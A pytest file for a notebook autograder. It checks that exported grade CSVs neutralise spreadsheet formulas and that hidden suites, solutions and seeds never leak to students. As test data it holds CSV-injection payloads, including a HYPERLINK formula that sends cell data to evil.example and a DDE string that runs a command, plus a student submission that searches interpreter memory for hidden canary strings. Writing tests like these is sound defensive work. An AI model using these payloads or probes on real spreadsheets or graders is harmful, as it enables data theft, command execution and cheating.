"""What goes out: grades that no spreadsheet computes, and nothing of the suites or the solutions."""

import csv
import dataclasses
import io
import json
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import nbformat
import pytest
import torch
from nbgrader.api import Gradebook
from tiny_course import FIXTURE, make_course

from autograder import exports, feedback, grading, handed_in, receipt, suite
from autograder.__main__ import main
from autograder.course import REPOSITORY, Course
from autograder.grades_table import cell, table
from autograder.player import DirectPlayer
from autograder.release import REGION, load_source
from autograder.sample_class import Variant, load_variants, notebook_bytes, write

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    '"=1+1',
    '" =1+1',
    '",=1+1',
    ";=1+1",
    "|=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    '=HYPERLINK("http://evil.example/"&A1;"x")',
    "=cmd|' /C calc'!A0",
    "x\n=1+1",
]
PLAIN = [
    "O'Brien",
    "Müller, Jürgen",
    'the "best"',
    "山田 太郎",
    "s001",
    "a@b.example",
    "1.5",
    "2026-01-01",
    "x-y",
    "",
]


def computes(value: str) -> bool:
    """Whether a spreadsheet would compute a value that it read from a CSV file.

    Excel, LibreOffice and Google Sheets do when it starts with = + - or @ and is no number. Some first drop
    white space, control characters and a byte order mark, and read full-width signs as the plain ones; a
    program told of another separator starts anew after it. An apostrophe in front makes it text.
    """
    plain = value.translate(str.maketrans("\uff1d\uff0b\uff0d\uff20", "=+-@"))
    for piece in re.split(r"[,;|\t]", plain):
        start = piece.strip('\ufeff\u200b\u202e\x00 \t\r\n\u00a0"')
        if start[:1] in tuple("=+-@"):
            try:
                float(start)
            except ValueError:
                return True
    return False


def test_the_rule_finds_formulas():
    assert [value for value in FORMULAS if not computes(value)] == ["'=1+1", "x\n=1+1"]
    assert not any(computes(value) for value in PLAIN) and not computes("-1.5")


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value):
    shown = cell(value)
    assert not computes(shown) and "\n" not in shown and "\r" not in shown and "\t" not in shown
    assert "=" in shown or "+" in shown or "SUM" in shown or "\uff1d" in shown  # it is shown, not removed


@pytest.mark.parametrize("value", PLAIN)
def test_what_is_no_formula_stays(value):
    assert cell(value) == value


def test_numbers_stay_numbers():
    assert [cell(value) for value in (1.5, -2.0, 0, None)] == ["1.5", "-2.0", "0", ""]
    assert cell(float("1e22")) == "1e+22" and cell("x" * 5000) == "x" * 1000


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A gradebook in which names were made to hurt."""
    made = make_course(tmp_path_factory.mktemp("exports"))
    assert main(["release"], made) == 0
    for student in ("s001", "s002"):
        write(made, "tiny", Variant(student, "right"))
    assert main(["grade"], made) == 0
    with Gradebook(f"sqlite:///{made.root / 'gradebook.db'}") as book:
        for number, formula in enumerate(FORMULAS):
            names = {"first_name": formula, "last_name": 'a,"b"\nc', "email": f"=x{number}@y"}
            book.add_student(f"t{number:03d}", **names)
        book.find_student("s001").first_name = "-2+3"
        book.find_submission("tiny", "s001").notebooks[0].late_submission_penalty = 0.5
        book.db.commit()
    assert main(["export"], made) == 0
    return made


def read(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def test_grades_are_read_back_and_nothing_computes(course):
    path = course.root / "grades.csv"
    rows = read(path)
    assert [row["student_id"] for row in rows] == sorted(row["student_id"] for row in rows)
    assert len(rows) == 2 + len(FORMULAS) and all(len(row) == 11 and None not in row for row in rows)
    assert not [value for row in rows for value in row.values() if computes(value)]
    first = rows[0]
    assert (float(first["raw_score"]), float(first["late_submission_penalty"])) == (5, 0.5)
    assert (float(first["score"]), float(first["max_score"]), first["first_name"]) == (4.5, 7, "'-2+3")
    assert (float(rows[1]["score"]), rows[2]["score"], rows[2]["last_name"]) == (5, "0.0", 'a,"b" c')
    text = path.read_text(encoding="utf-8")
    assert text.count("\n") == len(rows) + 1  # one line a student, whatever their names hold
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"')
    again = io.StringIO()
    csv.writer(again, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(csv.reader(io.StringIO(text)))
    assert again.getvalue() == text


def test_an_export_that_changes_nothing_writes_nothing(course):
    path, changed = exports.export(course)
    before = path.stat().st_mtime_ns
    assert not changed and exports.export(course) == (path, False) and path.stat().st_mtime_ns == before


def test_without_a_gradebook_there_is_nothing_to_export(tmp_path, capsys):
    assert main(["export"], make_course(tmp_path)) == 1
    assert "no gradebook yet" in capsys.readouterr().err


def test_only_who_and_what_was_asked_for(course):
    with Gradebook(f"sqlite:///{course.root / 'gradebook.db'}") as book:
        assert len(table(book, [], ["s002"]).splitlines()) == 2
        assert len(table(book, ["nothing"], []).splitlines()) == 1


def test_nbgraders_own_command_writes_the_same_file(course, tmp_path):
    (tmp_path / "nbgrader_config.py").write_text(
        f"""
import sys
sys.path.insert(0, {str(FIXTURE.parent)!r})
from pathlib import Path
from tiny_course import make_course
from autograder.nbgrader_plugin import configure
configure(get_config(), make_course(Path({str(course.root.parent)!r})))
"""
    )
    command = [sys.executable, "-m", "nbgrader", "export", "--to", "there.csv"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=100, check=False)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "there.csv").read_bytes() == (course.root / "grades.csv").read_bytes()


SUITES = {"suite": "canary-suite-4b1e7c52", "solution": "canary-solution-9d02f6a8"}
BOTH = tuple(SUITES.values())


def holding(root: Path, *marks: str) -> list[str]:
    """The files below a folder that hold one of these texts, also inside an archive or written as JSON."""
    found = []
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            content = path.read_bytes()
            if path.suffix in (".whl", ".zip"):
                with zipfile.ZipFile(path) as archive:
                    content = b"\n".join(archive.read(name) for name in archive.namelist())
            if any(mark.encode() in content for mark in marks):
                found.append(str(path.relative_to(root)))
    return found


def test_every_suite_file_and_every_solution_has_its_canary():
    for assignment in Course.here().assignments():
        files = list((Course.here().suites / assignment).glob("*.py"))
        assert len(files) > 5
        for path in files:
            text = path.read_text(encoding="utf-8")
            assert f"# {SUITES['suite']}" in text, path
            constant = re.search(rf'^canary = "{SUITES["suite"]}"$', text, re.IGNORECASE | re.MULTILINE)
            assert path.name == "rig.py" or constant, path
        lines = Course.here().source_text(assignment).read_text(encoding="utf-8").splitlines()
        ends = [line for line in lines if "END SOLUTION" in line]
        assert ends and all(SUITES["solution"] in line for line in ends)


LEAKS = '''
import gc, linecache, sys
def freeze_backbone(model):
    """Tell everything that can be found beside this code, in an error and in print."""
    seen = [str(value) for value in gc.get_objects() if isinstance(value, (dict, list, tuple))]
    frame = sys._getframe()
    while frame:
        seen += [str(frame.f_globals), str(frame.f_code.co_consts)]
        frame = frame.f_back
    seen += [str(linecache.cache), str([getattr(module, "__doc__", "") for module in sys.modules.values()])]
    found = [word for text in seen for word in text.split() if "canary" in word]
    raise ValueError(str(found[:20]))
'''


@pytest.fixture(scope="module")
def everything(tmp_path_factory):
    """The real assignment, released, graded, told and exported: wrong answers, and one that looks around."""
    folder = tmp_path_factory.mktemp("canary")
    course = dataclasses.replace(Course.here(), root=folder / "course", exercises=folder / "exercises")
    assert main(["release"], course) == 0
    wrong = {variant.id: variant for variant in load_variants(course, "freezing")}
    for name in ("s001", "s006", "s009", "s011", "s018", "s020", "s025"):
        write(course, "freezing", wrong[name])
    write(course, "freezing", Variant("x001", "looks around", cells={"freeze_backbone-solution": LEAKS}))
    for command in ("grade", "feedback", "export"):
        assert main([command], course) == 0
    return course


def told_about(course: Course, student: str) -> str:
    """The verdict on a student as the ledger holds it, and what their cells showed."""
    verdict = dataclasses.asdict(grading.read(course, "freezing", student))
    return json.dumps([verdict, grading.outputs(course, "freezing", student)], default=str)


def test_no_canary_in_anything_that_goes_out(everything):
    root = everything.root
    assert holding(root / "source", *BOTH), "the instructor's own notebook has it: else this could not fail"
    assert holding(everything.exercises, *BOTH) == []
    assert (everything.exercises / "freezing" / "freezing.ipynb").is_file()
    for folder in (
        "release",
        "submitted",
        "autograded",
        "feedback",
        "grades.csv",
        "gradebook.db",
        "ledger.db",
    ):
        assert (root / folder).exists(), folder
    assert [path for path in holding(root, *BOTH) if not path.startswith("source/")] == []
    for student in everything.submissions("freezing"):
        told = told_about(everything, student)
        assert not [mark for mark in BOTH if mark in told]
    page = feedback.feedback_page(everything, "freezing", "x001").read_text(encoding="utf-8")
    assert "raised an exception" in page and "ValueError" in page


def test_the_repositorys_own_exercises_and_site_hold_no_canary():
    assert holding(REPOSITORY / "exercises", *BOTH) == []
    if (REPOSITORY / "_build" / "html").is_dir():
        assert holding(REPOSITORY / "_build" / "html", *BOTH) == []


def test_the_student_package_holds_the_suites_and_no_solution(tmp_path):
    """Students check their own work with the suites, so these are open. The solutions are not there."""
    source = tmp_path / "source"
    source.mkdir()
    for name in ("autograder", "transfer_learning"):
        shutil.copytree(REPOSITORY / name, source / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("pyproject.toml", "README.md"):
        shutil.copy(REPOSITORY / name, source)
    command = [sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "--no-index"]
    command += ["--wheel-dir", str(tmp_path / "wheels"), str(source)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=200, check=False)
    assert done.returncode == 0, done.stderr
    (wheel,) = (tmp_path / "wheels").glob("*.whl")
    with zipfile.ZipFile(wheel) as archive:
        texts = {name: archive.read(name) for name in archive.namelist()}
    assert not [name for name, text in texts.items() if SUITES["solution"].encode() in text]
    assert not [name for name in texts if name.startswith("solutions/") or "sample_class" in Path(name).parts]
    with_suites = [name for name, text in texts.items() if SUITES["suite"].encode() in text]
    assert with_suites and all(name.startswith("autograder/suites/") for name in with_suites)


def functions_of(notebook: nbformat.NotebookNode) -> dict:
    """What a notebook's cells define; one that raises is left behind."""
    from autograder.submission import runs

    names: dict = {"__name__": "__main__"}
    for part in filter(runs, notebook.cells):
        try:
            exec(compile(part.source, "cell", "exec"), names)
        except (Exception, SystemExit):
            continue
    return names


def messages(names: dict, seed: int) -> list:
    """All that is told about the functions, graded under this seed."""
    folder = Course.here().suites / "freezing"
    player = DirectPlayer(names, suite.rig_of(folder), seed=seed, full=True)
    verdicts = suite.run(folder, suite.tasks_of(folder), player)
    return [(test.name, test.passed, test.message) for task in verdicts.values() for test in task.tests]


STOPS = {"s021", "s022", "s023"}  # these end or loop: only the sandbox can run them
WRONG = [
    variant
    for variant in load_variants(Course.here(), "freezing")
    if variant.raw is None and variant.filename is None and variant.id not in STOPS
]
NUMBER = re.compile(r"\d[\d.]*")
RETURNED = {
    "zero": "def train_one_epoch(model, loader, optimizer): return 0.0",
    "a constant": "def train_one_epoch(model, loader, optimizer): return 1.25",
    "features of zeros": "import torch\ndef precompute_features(model, loader):\n"
    "    labels = torch.cat([y for _, y in loader])\n"
    "    return torch.zeros(len(labels), model.backbone.feature_dim), labels",
}
GUESSES = [
    Variant("g", name, cells={f"{source.split('def ')[1].split('(')[0]}-solution": source})
    for name, source in RETURNED.items()
]


@pytest.mark.parametrize("variant", [*WRONG, *GUESSES], ids=lambda variant: variant.title)
def test_messages_hold_no_number_that_depends_on_the_secret(everything, variant):
    """So nobody can learn a hidden number from them, however often they hand in.

    Here is the line. A message may tell what the student's own code did, raised or showed: it ran on the
    hidden inputs and could tell them anyway. That gains nothing, for whoever can turn them into the right
    answer at home has the right function. A message may not tell what the suite computed from them: a right
    value, or the distance to it, could be written down in the next hand-in.
    """
    threads = torch.get_num_threads()
    torch.set_num_threads(1)
    try:
        notebook = nbformat.reads(notebook_bytes(everything, "freezing", variant).decode(), as_version=4)
        names = functions_of(notebook)
        first, second = (messages(names, seed) for seed in (101_202_303, 909_808_707))
    finally:
        torch.set_num_threads(threads)
    suite_text = "".join(path.read_text("utf-8") for path in (Course.here().suites / "freezing").glob("*.py"))
    for (name, passed, told), (again, passed_again, told_again) in zip(first, second, strict=True):
        assert (name, passed) == (again, passed_again)  # which tests pass does not depend on it either
        if told != told_again:  # another misconception was found, with other words; its numbers are literals
            numbers = set(NUMBER.findall(json.dumps(told))) ^ set(NUMBER.findall(json.dumps(told_again)))
            assert not [number for number in numbers if number not in suite_text], (told, told_again)
    assert variant.expected or any(message for _, _, message in first)


def test_a_check_on_the_students_machine_does_tell_the_numbers():
    names = functions_of(_reference())
    names["train_one_epoch"] = lambda model, loader, optimizer: 0.0
    folder = Course.here().suites / "freezing"
    player = DirectPlayer(names, suite.rig_of(folder))
    told = suite.run(folder, ["train_one_epoch"], player)["train_one_epoch"].tests
    assert any(test.message and test.message["came"] == "0.0000" for test in told)


def _reference():
    notebook = load_source(Course.here(), "freezing")
    for part in notebook.cells:
        part.source = "\n".join(line for line in part.source.splitlines() if not REGION.search(line))
    return notebook


def test_a_seed_is_in_no_file_that_goes_out(everything):
    secret = (everything.root / "secret_seed").read_text(encoding="utf-8").strip()
    assert len(secret) >= 32
    for student in ("s009", "s011", "x001"):
        digest = handed_in.digest(everything, "freezing", student)
        seed = str(receipt.seed(everything, "freezing", student, digest))
        told = told_about(everything, student)
        assert seed not in told and secret not in told
        for folder in ("autograded", "feedback", "release"):
            assert holding(everything.root / folder, seed, secret) == [], folder
